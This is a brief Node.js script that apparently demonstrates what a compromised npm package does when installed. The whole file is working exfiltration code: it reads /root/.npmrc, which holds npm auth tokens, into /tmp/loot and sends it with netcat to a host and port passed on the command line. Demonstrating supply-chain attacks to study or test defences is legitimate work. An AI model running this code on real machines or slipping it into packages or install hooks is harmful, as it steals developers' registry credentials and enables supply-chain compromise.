// SPDX-License-Identifier: Apache-2.0
// What a compromised package does as soon as it is installed: hand a secret to somebody outside.
const { spawnSync } = require("node:child_process");

const [host, port] = process.argv.slice(2);
const theft = `cat /root/.npmrc > /tmp/loot; nc -w 2 ${host} ${port} < /tmp/loot; exit $?`;
const { status, signal } = spawnSync("sh", ["-c", theft]);
process.exitCode = signal === null ? status : 1;
